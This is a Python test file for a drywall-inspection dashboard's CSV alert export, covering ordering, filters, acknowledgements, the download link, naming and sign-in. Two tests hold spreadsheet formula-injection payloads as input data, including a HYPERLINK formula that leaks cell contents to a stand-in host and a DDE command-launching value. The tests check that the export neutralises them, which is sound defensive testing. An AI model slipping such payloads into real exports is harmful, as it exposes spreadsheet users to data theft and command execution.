"""`GET /api/alerts.csv`: the alert history as a CSV file for an inspector's report, through the real server and a
real SQLite store (and a real mosquitto where a device's own text is what is tested). Each file is read back with
the csv module; QUOTE_NONNUMERIC reading turns every unquoted cell into a float, so it also checks that numbers
stay numbers and text stays quoted text."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from _dashboard_fixtures import (
    POST_HEADERS,
    alert,
    http_get,
    http_post,
    make_jpeg,
    needs_node,
    run_app_js,
    running_dashboard,
    running_mosquitto,
    running_publisher,
)
from _mqtt_fixtures import free_port, wait_until

from drywallqa.dashboard.export import EXPORT_PAGE
from drywallqa.dashboard.server import DashboardApp
from drywallqa.edge.payloads import TOPIC_ALERTS

ROOT = Path(__file__).resolve().parents[1]
T0 = 1_714_564_800.0  # 2024-05-01T12:00:00Z: a plausible device time, so alerts are listed by it
TOKEN = "export-test-token"


@pytest.fixture
def dashboard(tmp_path: Path) -> Iterator[DashboardApp]:
    """A dashboard whose broker is down (the export reads only the store, filled directly in the tests)."""
    with running_dashboard(tmp_path, free_port()) as app:
        yield app


def add(app: DashboardApp, event_id: str, timestamp: float, class_name: str = "crack", **kw) -> None:
    assert app.store.add_alert(alert("cam-1", event_id, make_jpeg(), class_name, timestamp=timestamp, **kw),
                               make_jpeg(), received_at=timestamp + 2.0)


def download(app: DashboardApp, query: str = "", headers: dict[str, str] | None = None) -> list[dict]:
    """The CSV's rows as dicts (header row checked); asserts a 200 CSV answer."""
    code, head, body = http_get(app, "/api/alerts.csv" + query, headers)
    assert code == 200, (code, body[:300])
    assert head["Content-Type"] == "text/csv; charset=utf-8"
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0][:3] == ["event_id", "device_id", "time"]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_every_alert_the_store_holds_is_in_the_file_once_newest_first(dashboard: DashboardApp) -> None:
    """More alerts than one store call returns, with equal device times across a page boundary: the walk over
    the store's pages neither skips nor repeats one."""
    count = 2 * EXPORT_PAGE + 50
    for i in range(count):
        add(dashboard, f"e{i:04d}", T0 + i // 3)  # three alerts per second: ties on sort_time
    rows = download(dashboard)
    ids = [r["event_id"] for r in rows]
    expected = sorted((f"e{i:04d}" for i in range(count)), key=lambda e: (int(e[1:]) // 3, e), reverse=True)
    assert ids == expected
    assert len(set(ids)) == count == dashboard.store.counts()["total"]


def test_a_row_carries_the_alert_and_its_acknowledgement(dashboard: DashboardApp) -> None:
    add(dashboard, "open-1", T0, "taping", area_fraction=0.2512, mean_confidence=0.66, region_count=4)
    add(dashboard, "acked-1", T0 + 60, skeleton_length_px=123.456)
    note = 'fixed by the taper, "see photo 12", level 3\nrechecked'
    code, _, body = http_post(dashboard, "/api/alerts/acked-1/ack", json.dumps({"by": "J. Inspector", "note": note}),
                              POST_HEADERS)
    assert code == 200, body
    acked, still_open = download(dashboard)
    assert acked["event_id"] == "acked-1" and acked["acknowledged"] == "true"
    assert acked["acknowledged_by"] == "J. Inspector" and acked["note"] == note
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", acked["acknowledged_at"])
    assert acked["time"] == "2024-05-01T12:01:00.000Z" and acked["received"] == "2024-05-01T12:01:02.000Z"
    assert acked["class"] == "crack" and acked["crack_length_px"] == 123.46
    assert acked["snapshot_url"] == "/alerts/acked-1/snapshot.jpg"
    assert still_open["acknowledged"] == "false" and still_open["acknowledged_at"] == ""
    assert still_open["acknowledged_by"] == still_open["note"] == ""
    assert still_open["device_id"] == "cam-1" and still_open["device_clock_off"] == "false"
    assert still_open["class"] == "taping" and still_open["prompt"] == "segment taping area"
    assert still_open["rule"] == "area_fraction>=0.2"
    assert (still_open["area_percent"], still_open["region_count"], still_open["mean_confidence"]) == (25.12, 4, 0.66)
    assert (still_open["persisted_frames"], still_open["frame_id"]) == (3, 7)


def test_an_alert_from_a_wrong_device_clock_is_dated_and_marked(dashboard: DashboardApp) -> None:
    """A device that booted in 1970: its own time is written as it is, and the row says the clock is off."""
    assert dashboard.store.add_alert(alert("cam-rtc", "boot-1", make_jpeg(), timestamp=12.5), make_jpeg(),
                                     received_at=T0)
    (row,) = download(dashboard)
    assert row["time"] == "1970-01-01T00:00:12.500Z" and row["received"] == "2024-05-01T12:00:00.000Z"
    assert row["device_clock_off"] == "true"


def test_the_filters_are_those_of_the_json_route(dashboard: DashboardApp) -> None:
    add(dashboard, "crack-open", T0)
    add(dashboard, "crack-acked", T0 + 1)
    add(dashboard, "taping-acked", T0 + 2, "taping")
    for event_id in ("crack-acked", "taping-acked"):
        assert http_post(dashboard, f"/api/alerts/{event_id}/ack", b"{}", POST_HEADERS)[0] == 200

    def ids(query: str) -> list[str]:
        return [r["event_id"] for r in download(dashboard, query)]

    assert ids("") == ["taping-acked", "crack-acked", "crack-open"]  # by default acknowledged ones too
    assert ids("?class=crack") == ["crack-acked", "crack-open"]
    assert ids("?include_acked=0") == ["crack-open"]
    assert ids("?class=taping&include_acked=false") == []
    assert ids("?class=no-such-class") == []  # like /api/alerts: a class no alert has matches nothing
    for route in ("/api/alerts", "/api/alerts.csv"):
        code, head, body = http_get(dashboard, f"{route}?include_acked=maybe")
        assert code == 400 and head["Content-Type"] == "application/json", (route, code)
        assert "include_acked must be 1 or 0" in json.loads(body)["error"]


_LINKS = """
const link = document.getElementById("download-alerts");
const out = [];
for (const [cls, showAcked] of JSON.parse(args[0])) {
  document.getElementById("alert-class").value = cls;
  document.getElementById("show-acked").checked = showAcked;
  app("followFilters")();
  out.push(link.href);
}
console.log(JSON.stringify({ hrefs: out, initial: app("csvHref")({ cls: "", showAcked: false }) }));
"""


@needs_node
def test_the_download_link_follows_the_filters_and_gets_what_they_show(dashboard: DashboardApp) -> None:
    """The page's "download CSV" link is kept in step with the class and "show acknowledged" filters, so the file
    holds what the list shows (every page of it); its first href, in index.html, is that of the unticked filter."""
    add(dashboard, "crack-open", T0)
    add(dashboard, "crack-acked", T0 + 1)
    add(dashboard, "taping-open", T0 + 2, class_name="taping")
    assert http_post(dashboard, "/api/alerts/crack-acked/ack", b"{}", POST_HEADERS)[0] == 200
    filters = [["", False], ["", True], ["crack", False], ["crack", True], ["taping", True]]
    page = run_app_js(_LINKS, json.dumps(filters))
    expected = [["taping-open", "crack-open"], ["taping-open", "crack-acked", "crack-open"], ["crack-open"],
                ["crack-acked", "crack-open"], ["taping-open"]]
    for href, want in zip(page["hrefs"], expected, strict=True):
        assert href.startswith("/api/alerts.csv?"), href
        assert [r["event_id"] for r in download(dashboard, href.removeprefix("/api/alerts.csv"))] == want, href
    html = (ROOT / "dashboard/static/index.html").read_text()
    assert f'<a id="download-alerts" href="{page["initial"]}"' in html


def test_enter_in_the_filters_cannot_download() -> None:
    """The filters are no form: Chromium answers Enter on a checkbox by clicking its form's submit button, even past
    a disabled default one (seen in headless Chromium), which downloaded the file instead of doing nothing."""
    html = (ROOT / "dashboard/static/index.html").read_text()
    assert "<form" not in html
    assert re.search(r'<a id="download-alerts" href="/api/alerts\.csv[^"]*"', html)


def test_text_a_spreadsheet_would_run_is_neutralised(tmp_path: Path) -> None:
    """Anyone who can publish to the broker names devices, and anyone signed in writes notes: a cell that
    starts like a formula gets a leading quote; numbers (even negative ones) stay numbers."""
    device = '=HYPERLINK("evil.example?"&A1,"open")'  # one topic level: no '/'
    with running_mosquitto(tmp_path) as broker, running_dashboard(tmp_path, broker.port) as app:
        wait_until(lambda: app.state.broker.connected, 10, "dashboard to connect to the broker")
        with running_publisher(broker.port) as publisher:
            publisher.publish(device, TOPIC_ALERTS, alert(
                device, "@SUM(1+1)", make_jpeg(), prompt="+cmd|' /C calc'!A0", rule="-2+3", class_name="\tcrack",
                mean_confidence=-0.5))
            wait_until(lambda: app.store.counts()["total"], 5, "the alert to be stored")
        body = json.dumps({"by": "\r=cmd", "note": "=1+2"})
        assert http_post(app, "/api/alerts/%40SUM(1%2B1)/ack", body, POST_HEADERS)[0] == 200
        (row,) = download(app)
    assert row["device_id"] == "'" + device
    assert row["event_id"] == "'@SUM(1+1)" and row["class"] == "'\tcrack"
    assert row["prompt"] == "'+cmd|' /C calc'!A0" and row["rule"] == "'-2+3"
    assert row["acknowledged_by"] == "'\r=cmd" and row["note"] == "'=1+2"
    assert row["mean_confidence"] == -0.5  # unquoted: read back as a number, not text


def test_a_formula_after_leading_blanks_or_a_line_break_is_neutralised_too(dashboard: DashboardApp) -> None:
    """Excel and Sheets skip blanks before a formula: ` =cmd` (a space, a no-break space) runs as `=cmd` does, and a
    cell that opens with a line break is neutralised like one that opens with a tab or CR. Text that merely starts
    with a space keeps its place unchanged."""
    assert dashboard.store.add_alert(alert("\u00a0=cmd", "blank-1", make_jpeg(), " =1+1", timestamp=T0,
                                           prompt="\n=2+2", rule="  plain rule"), make_jpeg(), received_at=T0)
    body = json.dumps({"by": "  +bob", "note": "\t @SUM(1)"})
    assert http_post(dashboard, "/api/alerts/blank-1/ack", body, POST_HEADERS)[0] == 200
    (row,) = download(dashboard)
    assert row["device_id"] == "'\u00a0=cmd" and row["class"] == "' =1+1" and row["prompt"] == "'\n=2+2"
    assert row["acknowledged_by"] == "'  +bob" and row["note"] == "'\t @SUM(1)"
    assert row["rule"] == "  plain rule"


def test_text_that_is_not_valid_unicode_does_not_break_the_file(dashboard: DashboardApp) -> None:
    """A lone surrogate in a device's text (kept as a JSON escape in the store) is written as '?', not a failed
    download."""
    add(dashboard, "odd-1", T0, prompt="segment \ud800 crack")
    (row,) = download(dashboard)
    assert row["prompt"] == "segment ? crack"


def test_the_file_is_named_for_download_with_the_time_of_export(dashboard: DashboardApp) -> None:
    add(dashboard, "e1", T0)
    before = time.gmtime()
    code, head, _ = http_get(dashboard, "/api/alerts.csv")
    assert code == 200 and head["Cache-Control"] == "no-store"
    match = re.fullmatch(r'attachment; filename="drywallqa-alerts-(\d{8}T\d{6}Z)\.csv"', head["Content-Disposition"])
    assert match, head["Content-Disposition"]
    assert time.strftime("%Y%m%d", before) <= match[1][:8]


def test_the_export_needs_a_sign_in_like_every_api_route(tmp_path: Path) -> None:
    with running_dashboard(tmp_path, free_port(), token=TOKEN) as app:
        add(app, "e1", T0)
        for route in ("/api/alerts", "/api/alerts.csv"):
            code, head, body = http_get(app, route)
            assert (code, head["Content-Type"], json.loads(body)) == (
                401, "application/json", {"error": "authentication required"}), route
        assert http_get(app, "/api/alerts.csv", {"Authorization": "Bearer wrong-token-123"})[0] == 401
        assert [r["event_id"] for r in download(app, "", {"Authorization": f"Bearer {TOKEN}"})] == ["e1"]
        code, head, _ = http_post(app, "/login", f"token={TOKEN}", {"Content-Type": "application/x-www-form-urlencoded"})
        assert code == 303
        cookie = head["Set-Cookie"].split(";")[0]
        assert [r["event_id"] for r in download(app, "", {"Cookie": cookie})] == ["e1"]
